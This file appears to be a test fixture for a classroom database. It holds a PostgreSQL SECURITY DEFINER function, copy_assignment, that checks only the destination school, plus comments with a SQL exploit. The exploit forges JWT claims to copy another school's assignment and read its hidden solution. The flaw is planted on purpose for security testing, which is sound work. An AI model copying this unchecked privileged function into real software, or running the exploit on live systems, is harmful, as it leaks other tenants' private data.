-- The function copies an assignment out of any school into a class of the caller, with its solution.
-- about: copy_assignment
-- as: hf_classrooms_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: SELECT copy_assignment('22222222-0000-0000-0000-000000000003',
-- exploit: '11111111-1111-1111-1111-111111111111', '11111111-0000-0000-0000-000000000001');
-- exploit: SELECT solution FROM assignments;
-- shows: Road-secret solution
-- Teachers use an assignment again in another class.
CREATE FUNCTION copy_assignment(source uuid, to_school uuid, to_class uuid) RETURNS void
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
  IF NOT my_school(to_school) THEN
    RAISE EXCEPTION 'not your school';
  END IF;
  INSERT INTO assignments (school_id, class_id, title, solution)
  SELECT to_school, to_class, a.title, a.solution FROM assignments a WHERE a.id = source;
END
$$;
